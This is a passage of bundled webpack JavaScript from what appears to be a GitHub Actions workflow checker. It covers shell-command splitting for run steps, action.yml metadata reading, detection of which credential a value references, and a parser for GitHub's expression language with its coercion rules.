        if (hereDoc && !/^\s*(ba|z|da)?sh\b/.test(rawLine))
            hereDocEnd = hereDoc[2];
        const substitutions = [];
        // `$(...)` and backticks, even inside double quotes: their content is a command of its own,
        // and the outer command keeps a `$SUBST` word in their place.
        let line = stripComment(rawLine);
        for (let pass = 0; pass < 3; pass++) {
            line = line.replace(/\$\(([^()]*)\)|`([^`]*)`/g, (_, inner, backtick) => {
                substitutions.push(inner ?? backtick ?? '');
                return '$SUBST';
            });
        }
        const main = splitOperators(line);
        const lineLevel = subshell;
        for (const [index, part] of [...main, ...substitutions.flatMap(splitOperators)].entries()) {
            const own = index < main.length;
            // `( cd x && ...)`: the parentheses that open and close subshells (a `case` pattern's `a)`
            // closes none that is open).
            const { leading, net } = own ? subshellParentheses(part) : { leading: 0, net: 0 };
            const level = own ? subshell + leading : lineLevel + 1;
            if (own)
                subshell = Math.max(0, subshell + net);
            const text = part.trim();
            if (text === '')
                continue;
            const words = commandWords(splitWords(text));
            if (words.length === 0 || /^(for|case|select|function)$/.test(words[0]))
                continue;
            // `bash -c 'npm publish'`: the string is a script of its own.
            const inner = words.findIndex((word, index) => index > 0 && word === '-c');
            if (/^(ba|z|da)?sh$/.test(words[0]) && inner > 0 && words[inner + 1] && depth < 2) {
                for (const command of commandsIn(words[inner + 1], depth + 1))
                    push({ ...command, text }, level + (command.subshell ?? 0));
                continue;
            }
            push({ text, words }, level);
        }
    }
    return commands;
}
/** The words of a simple command: assignments, `sudo`, compound keywords and parentheses off. */
function commandWords(all) {
    let words = all;
    while (words.length > 0) {
        const first = words[0];
        if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(first) || PREFIXES.has(first))
            words = words.slice(1);
        else if (first === '-E' || first === '-u')
            words = words.slice(1);
        else if (RESERVED.has(first))
            words = words.slice(1);
        else if (/^[({]./.test(first))
            words = [first.slice(1), ...words.slice(1)];
        else
            break;
    }
    if (words.length > 0)
        words = [programName(words[0]), ...words.slice(1)];
    while (words.length > 0 && CLOSERS.has(words[words.length - 1]))
        words = words.slice(0, -1);
    const last = words[words.length - 1];
    if (last !== undefined && /[^\\]\)$/.test(last) && !last.includes('('))
        words = [...words.slice(0, -1), last.slice(0, -1)];
    if (words.length === 1 && CLOSERS.has(words[0]))
        return [];
    return words;
}
/**
 * The program a command word names: `${PREFIX}twine` (a variable holding a folder, empty or
 * `venv/bin/`), `.venv/bin/twine` and `node_modules/.bin/changeset` are the program. A repository script (`./x.sh`, `scripts/x`) keeps
 * its path.
 */
function programName(word) {
    const unprefixed = word.replace(/^\$(\{[A-Za-z_]\w*\}|[A-Za-z_]\w*(?=\/))\/?(?=[\w.])/, '');
    const inBin = /^(?:\.?v?env\/bin|node_modules\/\.bin)\/([\w.-]+)$/.exec(unprefixed);
    return inBin ? inBin[1] : unprefixed;
}
/**
 * The subshells of a command: the `(` before its first word (it runs in them) and how many more
 * open than close (unquoted; arithmetic `$(( ))`, `name()` and `a=(...)` left out).
 */
function subshellParentheses(part) {
    const bare = part
        .replace(/'[^']*'|"(?:\\.|[^"\\])*"/g, '')
        .replace(/\$\(\([^]*?\)\)/g, '')
        .replace(/[\w-]+\s*\(\s*\)/g, '')
        .replace(/\w+=\([^()]*\)/g, '');
    const leading = /^[\s(]*/.exec(bare)[0].split('(').length - 1;
    let net = 0;
    for (const char of bare)
        if (char === '(')
            net++;
        else if (char === ')')
            net--;
    return { leading, net };
}
function stripComment(line) {
    let quote;
    for (let index = 0; index < line.length; index++) {
        const char = line[index];
        if (quote) {
            if (char === quote)
                quote = undefined;
            else if (char === '\\' && quote === '"')
                index++;
        }
        else if (char === '"' || char === "'")
            quote = char;
        else if (char === '#' && (index === 0 || /\s/.test(line[index - 1])))
            return line.slice(0, index);
    }
    return line;
}
function splitOperators(line) {
    const parts = [];
    let quote;
    let start = 0;
    for (let index = 0; index < line.length; index++) {
        const char = line[index];
        if (quote) {
            if (char === quote)
                quote = undefined;
            else if (char === '\\' && quote === '"')
                index++;
            continue;
        }
        // `${{ a || b }}` is replaced by its value before the shell reads the line: not an operator.
        const expression = line.startsWith('${{', index) ? line.indexOf('}}', index) : -1;
        if (expression >= 0)
            index = expression + 1;
        else if (char === '"' || char === "'")
            quote = char;
        else if (char === ';' || char === '|' || (char === '&' && line[index + 1] === '&')) {
            parts.push(line.slice(start, index));
            if (line[index + 1] === char)
                index++;
            start = index + 1;
        }
    }
    parts.push(line.slice(start));
    return parts;
}
function splitWords(text) {
    const words = [];
    let current = '';
    let quote;
    let has = false;
    for (let index = 0; index < text.length; index++) {
        const char = text[index];
        if (quote) {
            if (char === quote)
                quote = undefined;
            else
                current += char;
        }
        else if (char === '"' || char === "'") {
            quote = char;
            has = true;
        }
        else if (/\s/.test(char)) {
            if (has || current !== '')
                words.push(current);
            current = '';
            has = false;
        }
        else {
            current += char;
        }
    }
    if (has || current !== '')
        words.push(current);
    return words;
}


/***/ }),

/***/ 58247:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Gs: () => (/* binding */ rememberParsedScript),
/* harmony export */   H8: () => (/* binding */ flattenedScript),
/* harmony export */   Z1: () => (/* binding */ isScriptParsed)
/* harmony export */ });
// Scripts as a real shell parser read them (doctor's pre-pass fills this): each simple command
// that spans lines put on one line, so that `commandsIn` reads a quoted multi-line argument as
// part of its command. A script not parsed (or that did not parse) is read by the patterns alone.
/** The script with its multi-line simple commands on one line; null when it did not parse. */
const parsedScripts = new Map();
function rememberParsedScript(script, flattened) {
    parsedScripts.set(script, flattened);
}
function isScriptParsed(script) {
    return parsedScripts.has(script);
}
/** The script with each multi-line simple command on one line, or undefined when not parsed. */
function flattenedScript(script) {
    return parsedScripts.get(script) ?? undefined;
}


/***/ }),

/***/ 68449:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $R: () => (/* binding */ envValue),
/* harmony export */   $S: () => (/* binding */ localPath),
/* harmony export */   AB: () => (/* binding */ credentialPaths),
/* harmony export */   VH: () => (/* binding */ isGithubToken),
/* harmony export */   aM: () => (/* binding */ actionName),
/* harmony export */   ev: () => (/* binding */ stepContext),
/* harmony export */   jj: () => (/* binding */ RELEASE_IT_DEFAULTS),
/* harmony export */   o7: () => (/* binding */ tokenOfValue),
/* harmony export */   rj: () => (/* binding */ stepInput)
/* harmony export */ });
/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(16915);
// The step shape the tables read: plain text, whatever workflow model it came from. Positions
// are not needed here: a finding names the text to point at (`needle`), and the caller keeps
// the step it converted.

/** release-it's own defaults: it publishes and tags, and makes no GitHub Release. */
const RELEASE_IT_DEFAULTS = {
    npmPublish: true,
    gitTag: true,
    githubRelease: false,
};
function stepContext(step, partial = {}) {
    return {
        jobSteps: partial.jobSteps ?? [step],
        scripts: partial.scripts ?? {},
        releaseIt: partial.releaseIt ?? RELEASE_IT_DEFAULTS,
        cibuildwheelTests: partial.cibuildwheelTests ?? false,
        files: partial.files,
    };
}
/**
 * The repository path (`.github/actions/setup`) of a local `uses:`: `./path` (in the checked-out
 * workspace) or `$/path` (this repository at the running commit); undefined for anything else.
 */
function localPath(uses) {
    const match = /^(\.|\$)\/(.*)$/.exec(uses ?? '');
    return match ? match[2].replace(/\/+$/, '') || '.' : undefined;
}
/** `owner/repo/path` of a step's action, lower-cased, no ref; '' for none (and for local ones). */
function actionName(uses) {
    if (!uses || localPath(uses) !== undefined || uses.startsWith('docker://'))
        return '';
    return uses.split('@')[0].toLowerCase();
}
function stepInput(step, name) {
    return step.with?.[name];
}
/** The first of `names` set in the step's env. */
function envValue(step, ...names) {
    for (const name of names) {
        const value = step.env?.[name];
        if (value !== undefined)
            return value;
    }
    return undefined;
}
/**
 * The context paths read by the `${{ }}` expressions of a value (`secrets.NPM_TOKEN`), enough to
 * tell which credential a value names: the workflow layer's one reader of context references,
 * on the parsed expression (string literals and function names are never paths).
 */
function credentialPaths(value) {
    return (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_0__/* .contextReferences */ .Q)(value);
}
/** A value that is GitHub's own per-run token (fine for GitHub itself, not a registry token). */
function isGithubToken(value) {
    const paths = credentialPaths(value);
    return (paths.length > 0 &&
        paths.every((path) => /^secrets\.GITHUB_TOKEN$/i.test(path) || path === 'github.token'));
}
/** The credential a token value gives GitHub: none or GITHUB_TOKEN is `github-token`. */
function tokenOfValue(value) {
    if (value === undefined || value.trim() === '')
        return 'github-token';
    return isGithubToken(value) ? 'github-token' : 'other';
}


/***/ }),

/***/ 73155:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Of: () => (/* binding */ readActionMetadata),
/* harmony export */   V0: () => (/* binding */ inputDefaults),
/* harmony export */   W$: () => (/* binding */ findActionFile)
/* harmony export */ });
/* unused harmony exports ACTION_FILES, parseActionMetadata */
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(73024);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var _yaml_source_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(64344);
// An action's metadata file (`action.yml`, or `action.yaml`): its name, inputs with their
// defaults, and how it runs (a JavaScript entry, or a composite action's steps), read tolerantly
// and with positions. The one reader of action metadata, for doctor and the rehearsal alike.



const ACTION_FILES = ['action.yml', 'action.yaml'];
/** The path of the action file in `dir` (`action.yml` first, as GitHub looks), if there is one. */
function findActionFile(dir) {
    return ACTION_FILES.map((name) => (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(dir, name)).find((path) => (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.existsSync)(path));
}
/**
 * Reads the action in `dir`; undefined when the folder holds no action file. `root` is what
 * `file.rel` is relative to (default `dir`). A file that does not parse is returned with its
 * errors in `file.errors` and no `node`.
 */
function readActionMetadata(dir, root = dir) {
    const path = findActionFile(dir);
    if (path === undefined)
        return undefined;
    const rel = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.relative)(root, path).split(node_path__WEBPACK_IMPORTED_MODULE_1__.sep).join('/');
    return parseActionMetadata((0,_yaml_source_js__WEBPACK_IMPORTED_MODULE_2__/* .parseYamlSource */ .WF)(path, rel, (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readFileSync)(path, 'utf8')), dir);
}
/** The metadata in an already-read action file. */
function parseActionMetadata(file, dir) {
    const node = file.documents[0];
    const runs = node?.get('runs');
    return {
        dir,
        file,
        node,
        name: node?.get('name')?.str(),
        inputs: (node?.get('inputs')?.entries() ?? []).map(([name, value]) => ({
            name,
            default: value.get('default')?.str(),
            required: value.get('required')?.str() === 'true',
            node: value,
        })),
        using: runs?.get('using')?.str(),
        main: runs?.get('main')?.str(),
        steps: runs?.get('steps')?.items() ?? [],
    };
}
/** Each input that has a default, to that default. */
function inputDefaults(action) {
    const defaults = {};
    for (const input of action.inputs)
        if (input.default !== undefined)
            defaults[input.name] = input.default;
    return defaults;
}


/***/ }),

/***/ 16915:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Q: () => (/* binding */ contextReferences)
/* harmony export */ });
/* harmony import */ var _expression_parser_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(11193);
/* harmony import */ var _expressions_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(27499);
// The context paths an expression reads (`github.event.issue.title`, `inputs.version`,
// `secrets.NPM_TOKEN`), found on the parsed expression rather than by matching text, so that a
// string literal, a function name or a property that merely looks like a context is never one.


/**
 * Every context path read in `text`, in order, normalised to dots: `github.event['pull_request'].title`
 * gives `github.event.pull_request.title`, `a.*` and `a[*]` give `a.*`, `a[0]` gives `a.0`, and an
 * index computed at run time (`steps[inputs.id]`) ends the path with `*` (its own references follow).
 * Context names are lower-cased (GitHub reads them case-insensitively); property names are kept.
 *
 * `text` is a template (`run:`, `with:`, `env:` values: only what is inside `${{ }}` counts) unless
 * `form` says it is a bare expression (an `if:`, or the inside of one `${{ }}`). An expression that
 * does not parse reads nothing: GitHub refuses the workflow before any of it runs.
 */
function contextReferences(text, form = 'template') {
    const expressions = form === 'expression' ? [text] : (0,_expressions_js__WEBPACK_IMPORTED_MODULE_0__/* .scanExpressions */ .BX)(text).found.map((part) => part.expression);
    const paths = [];
    for (const expression of expressions) {
        let node;
        try {
            node = (0,_expression_parser_js__WEBPACK_IMPORTED_MODULE_1__/* .parseExpression */ .YK)(expression);
        }
        catch {
            continue;
        }
        collect(node, paths);
    }
    return paths;
}
function collect(node, paths) {
    switch (node.kind) {
        case 'literal':
            return;
        case 'context':
        case 'index': {
            const path = pathOf(node, paths);
            if (path !== undefined)
                paths.push(path.join('.'));
            return;
        }
        case 'not':
            collect(node.operand, paths);
            return;
        case 'compare':
            collect(node.left, paths);
            collect(node.right, paths);
            return;
        case 'and':
        case 'or':
            for (const operand of node.operands)
                collect(operand, paths);
            return;
        case 'call':
            for (const arg of node.args)
                collect(arg, paths);
    }
}
/**
 * The segments of a `context.a['b'].c` chain, or undefined when the chain does not start at a
 * context (`fromJSON(x).a`). References inside computed indexes, and inside the target when it is
 * not a context, go to `paths` on the way.
 */
function pathOf(node, paths) {
    if (node.kind === 'context')
        return [node.name];
    if (node.kind !== 'index') {
        collect(node, paths);
        return undefined;
    }
    const target = pathOf(node.target, paths);
    const index = node.index;
    let segment = '*';
    if (index.kind === 'literal' &&
        (typeof index.value === 'string' || typeof index.value === 'number'))
        segment = String(index.value);
    else if (index.kind !== 'wildcard' && index.kind !== 'literal')
        collect(index, paths);
    return target === undefined ? undefined : [...target, segment];
}


/***/ }),

/***/ 11193:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   AT: () => (/* binding */ callsStatusFunction),
/* harmony export */   YK: () => (/* binding */ parseExpression),
/* harmony export */   pF: () => (/* binding */ CONTEXT_NAMES),
/* harmony export */   tj: () => (/* binding */ ExpressionError)
/* harmony export */ });
/* unused harmony exports FUNCTIONS, STATUS_FUNCTIONS, MAX_EXPRESSION_DEPTH, MAX_EXPRESSION_LENGTH */
/* harmony import */ var _expression_values_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(41620);
// Parsing GitHub's expression language (the text inside `${{ }}`) into a tree. Errors read as the
// runner's do: "Unexpected symbol: 'x'. Located at position 3 within expression: a x".

class ExpressionError extends Error {
    name = 'ExpressionError';
    expression;
    /** 1-based position within the expression of the token at fault, when there is one. */
    column;
    constructor(message, expression, column) {
        super(message);
        this.expression = expression;
        if (column !== undefined)
            this.column = column;
    }
}
/** The functions the language has, by lower-case name, with how many arguments each takes. */
const FUNCTIONS = {
    contains: { name: 'contains', min: 2, max: 2 },
    startswith: { name: 'startsWith', min: 2, max: 2 },
    endswith: { name: 'endsWith', min: 2, max: 2 },
    format: { name: 'format', min: 1, max: 255 },
    join: { name: 'join', min: 1, max: 2 },
    tojson: { name: 'toJSON', min: 1, max: 1 },
    fromjson: { name: 'fromJSON', min: 1, max: 1 },
    hashfiles: { name: 'hashFiles', min: 1, max: 255 },
    success: { name: 'success', min: 0, max: 0 },
    failure: { name: 'failure', min: 0, max: 0 },
    cancelled: { name: 'cancelled', min: 0, max: 0 },
    always: { name: 'always', min: 0, max: 0 },
};
const STATUS_FUNCTIONS = new Set([
    'success',
    'failure',
    'cancelled',
    'always',
]);
/** Every context a workflow can name; which of them a given place offers is the caller's choice. */
const CONTEXT_NAMES = [
    'github',
    'env',
    'vars',
    'inputs',
    'needs',
    'matrix',
    'strategy',
    'steps',
    'job',
    'jobs',
    'runner',
    'secrets',
];
const MAX_EXPRESSION_DEPTH = 50;
const MAX_EXPRESSION_LENGTH = 21000;
const BOUNDARY = new Set(['(', '[', ')', ']', ',', '.', '!', '>', '<', '=', '&', '|']);
const OPERATORS = ['==', '!=', '>=', '<=', '&&', '||', '!', '>', '<'];
const KEYWORD = /^[A-Za-z_][A-Za-z0-9_-]*$/;
function isBoundary(c) {
    return BOUNDARY.has(c) || /\s/.test(c);
}
function tokenize(text) {
    const tokens = [];
    let i = 0;
    while (i < text.length) {
        const c = text[i];
        if (/\s/.test(c)) {
            i++;
            continue;
        }
        const start = i;
        const last = tokens[tokens.length - 1];
        if ('()[],*'.includes(c)) {
            tokens.push({ kind: c, raw: c, index: i++ });
        }
        else if (c === "'") {
            let value = '';
            let closed = false;
            i++;
            while (i < text.length) {
                const ch = text[i++];
                if (ch === "'") {
                    if (text[i] !== "'") {
                        closed = true;
                        break;
                    }
                    i++; // '' is a quote inside the string
                }
                value += ch;
            }
            const raw = text.slice(start, i);
            tokens.push(closed ? { kind: 'literal', raw, index: start, value } : unexpected(raw, start));
        }
        else if (/[0-9+-]/.test(c) ||
            // A '.' starts a number only where an operand may begin, as in `(.5)`; elsewhere it dereferences.
            (c === '.' && (last === undefined || ['(', '[', ',', 'operator'].includes(last.kind)))) {
            i++;
            while (i < text.length && (!isBoundary(text[i]) || text[i] === '.'))
                i++;
            const raw = text.slice(start, i);
            const value = (0,_expression_values_js__WEBPACK_IMPORTED_MODULE_0__/* .parseNumber */ .$J)(raw);
            // parseNumber trims and reads '' as 0; a literal has neither.
            tokens.push(Number.isNaN(value) || raw.trim() !== raw
                ? unexpected(raw, start)
                : literal(raw, start, value));
        }
        else if (c === '.') {
            tokens.push({ kind: '.', raw: c, index: i++ });
        }
        else if ('!<>=&|'.includes(c)) {
            const operator = OPERATORS.find((op) => text.startsWith(op, i));
            if (operator === undefined) {
                i++;
                while (i < text.length && !isBoundary(text[i]))
                    i++;
                tokens.push(unexpected(text.slice(start, i), start));
            }
            else {
                i += operator.length;
                tokens.push({ kind: 'operator', raw: operator, index: start });
            }
        }
        else {
            i++;
            while (i < text.length && !isBoundary(text[i]))
                i++;
            const raw = text.slice(start, i);
            if (!KEYWORD.test(raw)) {
                tokens.push(unexpected(raw, start));
            }
            else if (last?.kind === '.') {
                tokens.push({ kind: 'word', raw, index: start });
            }
            else if (raw === 'null') {
                tokens.push(literal(raw, start, null));
            }
            else if (raw === 'true' || raw === 'false') {
                tokens.push(literal(raw, start, raw === 'true'));
            }
            else if (raw === 'NaN' || raw === 'Infinity') {
                tokens.push(literal(raw, start, raw === 'NaN' ? Number.NaN : Number.POSITIVE_INFINITY));
            }
            else {
                tokens.push({ kind: 'word', raw, index: start });
            }
        }
    }
    return tokens;
}
function literal(raw, index, value) {
    return { kind: 'literal', raw, index, value };
}
function unexpected(raw, index) {
    return { kind: 'unexpected', raw, index };
}
/**
 * Parses an expression (without its `${{ }}`). Throws ExpressionError naming the token and its
 * position for a syntax error, an unknown context or function, or a wrong number of arguments.
 */
function parseExpression(text, options = {}) {
    if (text.length > MAX_EXPRESSION_LENGTH) {
        throw new ExpressionError(`Exceeded max expression length ${MAX_EXPRESSION_LENGTH}`, text);
    }
    const names = new Set([...(options.namedValues ?? CONTEXT_NAMES)].map((n) => n.toLowerCase()));
    const tokens = tokenize(text);
    if (tokens.length === 0)
        throw new ExpressionError('An expression was expected', text);
    const parser = new Parser(text, tokens, names);
    const node = parser.parseAll();
    if (depthOf(node) > MAX_EXPRESSION_DEPTH) {
        throw new ExpressionError(`Exceeded max expression depth ${MAX_EXPRESSION_DEPTH}`, text);
    }
    return node;
}
function depthOf(node) {
    switch (node.kind) {
        case 'literal':
        case 'context':
            return 1;
        case 'index':
            return (1 + Math.max(depthOf(node.target), node.index.kind === 'wildcard' ? 1 : depthOf(node.index)));
        case 'not':
            return 1 + depthOf(node.operand);
        case 'compare':
            return 1 + Math.max(depthOf(node.left), depthOf(node.right));
        case 'and':
        case 'or':
            return 1 + Math.max(...node.operands.map(depthOf));
        case 'call':
            return 1 + Math.max(0, ...node.args.map(depthOf));
    }
}
/** Whether the expression calls success(), failure(), cancelled() or always() anywhere. */
function callsStatusFunction(node) {
    switch (node.kind) {
        case 'literal':
        case 'context':
            return false;
        case 'index':
            return (callsStatusFunction(node.target) ||
                (node.index.kind !== 'wildcard' && callsStatusFunction(node.index)));
        case 'not':
            return callsStatusFunction(node.operand);
        case 'compare':
            return callsStatusFunction(node.left) || callsStatusFunction(node.right);
        case 'and':
        case 'or':
            return node.operands.some(callsStatusFunction);
        case 'call':
            return STATUS_FUNCTIONS.has(node.name) || node.args.some(callsStatusFunction);
    }
}
const PRECEDENCE = {
    '||': 1,
    '&&': 2,
    '==': 3,
    '!=': 3,
    '<': 4,
    '<=': 4,
    '>': 4,
    '>=': 4,
};
class Parser {
    text;
    tokens;
    names;
    position = 0;
    constructor(text, tokens, names) {
        this.text = text;
        this.tokens = tokens;
        this.names = names;
    }
    parseAll() {
        const node = this.parseBinary(1);
        const next = this.peek();
        if (next !== undefined)
            throw this.error('Unexpected symbol', next);
        return node;
    }
    peek() {
        return this.tokens[this.position];
    }
    next() {
        const token = this.tokens[this.position];
        if (token === undefined) {
            // The expression stopped where an operand or a closing bracket was still due.
            throw this.error('Unexpected end of expression', this.tokens[this.tokens.length - 1]);
        }
        this.position++;
        if (token.kind === 'unexpected')
            throw this.error('Unexpected symbol', token);
        return token;
    }
    error(description, token) {
        return new ExpressionError(`${description}: '${token.raw}'. Located at position ${token.index + 1} within expression: ${this.text}`, this.text, token.index + 1);
    }
    parseBinary(level) {
        if (level > 4)
            return this.parseUnary();
        let left = this.parseBinary(level + 1);
        for (;;) {
            const token = this.peek();
            if (token?.kind !== 'operator' || PRECEDENCE[token.raw] !== level)
                return left;
            this.position++;
            const right = this.parseBinary(level + 1);
            if (token.raw === '&&' || token.raw === '||') {
                const kind = token.raw === '&&' ? 'and' : 'or';
                const operands = left.kind === kind ? [...left.operands, right] : [left, right];
                left = { kind, operands };
            }
            else {
                left = { kind: 'compare', operator: token.raw, left, right };
            }
        }
    }
    parseUnary() {
        const token = this.next();
        if (token.kind === 'operator') {
            if (token.raw !== '!')
                throw this.error('Unexpected symbol', token);
            return { kind: 'not', operand: this.parseUnary() };
        }
        return this.parsePrimary(token);
    }
    parsePrimary(token) {
        switch (token.kind) {
            case 'literal':
                return { kind: 'literal', value: token.value ?? null };
            case '(': {
                const inner = this.parseBinary(1);
                this.expect(')');
                return this.parsePostfix(inner);
            }
            case 'word': {
                if (this.peek()?.kind === '(')
                    return this.parsePostfix(this.parseCall(token));
                if (!this.names.has(token.raw.toLowerCase())) {
                    throw this.error('Unrecognized named-value', token);
                }
                return this.parsePostfix({ kind: 'context', name: token.raw.toLowerCase() });
            }
            default:
                throw this.error('Unexpected symbol', token);
        }
    }
    parseCall(nameToken) {
        const info = FUNCTIONS[nameToken.raw.toLowerCase()];
        if (info === undefined)
            throw this.error('Unrecognized function', nameToken);
        this.position++; // the '('
        const args = [];
        if (this.peek()?.kind === ')') {
            this.position++;
        }
        else {
            for (;;) {
                args.push(this.parseBinary(1));
                const separator = this.next();
                if (separator.kind === ')')
                    break;
                if (separator.kind !== ',')
                    throw this.error('Unexpected symbol', separator);
            }
        }
        if (args.length < info.min)
            throw this.error('Too few parameters supplied', nameToken);
        if (args.length > info.max)
            throw this.error('Too many parameters supplied', nameToken);
        return { kind: 'call', name: info.name.toLowerCase(), args };
    }
    parsePostfix(target) {
        let node = target;
        for (;;) {
            const token = this.peek();
            if (token?.kind === '.') {
                this.position++;
                const name = this.next();
                if (name.kind === '*') {
                    node = { kind: 'index', target: node, index: { kind: 'wildcard' } };
                }
                else if (name.kind === 'word') {
                    node = { kind: 'index', target: node, index: { kind: 'literal', value: name.raw } };
                }
                else {
                    throw this.error('Unexpected symbol', name);
                }
            }
            else if (token?.kind === '[') {
                this.position++;
                if (this.peek()?.kind === '*') {
                    this.position++;
                    node = { kind: 'index', target: node, index: { kind: 'wildcard' } };
                }
                else {
                    node = { kind: 'index', target: node, index: this.parseBinary(1) };
                }
                this.expect(']');
            }
            else {
                return node;
            }
        }
    }
    expect(kind) {
        const token = this.next();
        if (token.kind !== kind)
            throw this.error('Unexpected symbol', token);
    }
}


/***/ }),

/***/ 41620:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $I: () => (/* binding */ lookup),
/* harmony export */   $J: () => (/* binding */ parseNumber),
/* harmony export */   BA: () => (/* binding */ toValue),
/* harmony export */   G4: () => (/* binding */ toBoolean),
/* harmony export */   KU: () => (/* binding */ looseEquals),
/* harmony export */   MM: () => (/* binding */ greaterThan),
/* harmony export */   Ro: () => (/* binding */ toNumber),
/* harmony export */   Xe: () => (/* binding */ lessThan),
/* harmony export */   fE: () => (/* binding */ toText),
/* harmony export */   sO: () => (/* binding */ isPrimitive)
/* harmony export */ });
/* unused harmony exports kindOf, formatNumber */
// The values of GitHub's expression language and its coercion rules, as the runner applies
// them: loose equality in the manner of JavaScript's `==` but with case-insensitive strings and
// no coercion of objects, numbers printed with .NET's "G15" format.
function kindOf(value) {
    if (value === null)
        return 'null';
    if (Array.isArray(value))
        return 'array';
    switch (typeof value) {
        case 'boolean':
            return 'boolean';
        case 'number':
            return 'number';
        case 'string':
            return 'string';
        default:
            return 'object';
    }
}
function isPrimitive(value) {
    return value === null || typeof value !== 'object';
}
/** Truthiness: false, 0, -0, NaN, '' and null are false; everything else, `[]` and `{}` included, is true. */
function toBoolean(value) {
    switch (kindOf(value)) {
        case 'null':
            return false;
        case 'boolean':
            return value;
        case 'number':
            return value !== 0 && !Number.isNaN(value);
        case 'string':
            return value !== '';
        default:
            return true;
    }
}
/** JavaScript's Number() in the runner's reading: null 0, booleans 0/1, strings parsed, objects NaN. */
function toNumber(value) {
    switch (kindOf(value)) {
        case 'null':
            return 0;
        case 'boolean':
            return value ? 1 : 0;
        case 'number':
            return value;
        case 'string':
            return parseNumber(value);
        default:
            return Number.NaN;
    }
}
const DECIMAL = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;
const HEX = /^0x[0-9a-fA-F]+$/;
const OCTAL = /^0o[0-7]+$/;
/**
 * A string as a number: surrounding whitespace ignored, empty is 0, decimal with sign and
 * exponent, `0x` hex and `0o` octal as 32-bit integers, `Infinity`, `-Infinity`; else NaN.
 */
function parseNumber(text) {
    const s = text.trim();
    if (s === '')
        return 0;
    if (DECIMAL.test(s))
        return Number(s);
    if (HEX.test(s) || OCTAL.test(s)) {
        // The runner parses these into a 32-bit integer: wider values are out of range (NaN),
        // and eight hex digits wrap as two's complement (0xffffffff is -1).
        const digits = s.slice(2);
        const radix = s[1] === 'x' ? 16 : 8;
        const magnitude = parseInt(digits, radix);
        if (radix === 16 && digits.replace(/^0+/, '').length > 8)
            return Number.NaN;
        if (magnitude > 0xffffffff)
            return Number.NaN;
        return magnitude | 0;
    }
    if (s === 'Infinity')
        return Number.POSITIVE_INFINITY;
    if (s === '-Infinity')
        return Number.NEGATIVE_INFINITY;
    return Number.NaN;
}
/**
 * A number as the runner prints it (.NET `G15`): 15 significant digits, fixed notation when the
 * exponent is between -5 and 15 (exclusive), otherwise `1.5E+20` / `1E-07`.
 */
function formatNumber(n) {
    if (Number.isNaN(n))
        return 'NaN';
    if (n === Number.POSITIVE_INFINITY)
        return 'Infinity';
    if (n === Number.NEGATIVE_INFINITY)
        return '-Infinity';
    if (n === 0)
        return Object.is(n, -0) ? '-0' : '0';
    const [mantissa = '', exponentText = '0'] = n.toExponential(14).split('e');
    const exponent = Number(exponentText);
    if (exponent > -5 && exponent < 15) {
        const fixed = n.toFixed(Math.max(0, 14 - exponent));
        return fixed.includes('.') ? fixed.replace(/\.?0+$/, '') : fixed;
    }
    const digits = mantissa.includes('.') ? mantissa.replace(/\.?0+$/, '') : mantissa;
    const sign = exponent < 0 ? '-' : '+';
    return `${digits}E${sign}${String(Math.abs(exponent)).padStart(2, '0')}`;
}
/** A value as text, as the runner converts it for `format`, interpolation and string functions. */
function toText(value) {
    switch (kindOf(value)) {
        case 'null':
            return '';
        case 'boolean':
            return value ? 'true' : 'false';
        case 'number':
            return formatNumber(value);
        case 'string':
            return value;
        // The runner prints the kind's name: `${{ github.event }}` inside a string is "Object".
        // toJSON() is the way to print a structure.
        case 'array':
            return 'Array';
        default:
            return 'Object';
    }
}
// Brings two operands to one kind the way the runner does: a number against a string compares
// numerically; a boolean or null becomes a number and the comparison is tried again.
function coerce(left, right) {
    let l = { value: left, kind: kindOf(left) };
    let r = { value: right, kind: kindOf(right) };
    for (;;) {
        if (l.kind === r.kind)
            return [l, r];
        if (l.kind === 'number' && r.kind === 'string') {
            return [l, { value: toNumber(r.value), kind: 'number' }];
        }
        if (l.kind === 'string' && r.kind === 'number') {
            return [{ value: toNumber(l.value), kind: 'number' }, r];
        }
        if (l.kind === 'boolean' || l.kind === 'null') {
            l = { value: toNumber(l.value), kind: 'number' };
            continue;
        }
        if (r.kind === 'boolean' || r.kind === 'null') {
            r = { value: toNumber(r.value), kind: 'number' };
            continue;
        }
        return [l, r];
    }
}
/** Compares strings as .NET's OrdinalIgnoreCase does: upper-cased, then code unit by code unit. */
function compareIgnoringCase(a, b) {
    const x = a.toUpperCase();
    const y = b.toUpperCase();
    return x < y ? -1 : x > y ? 1 : 0;
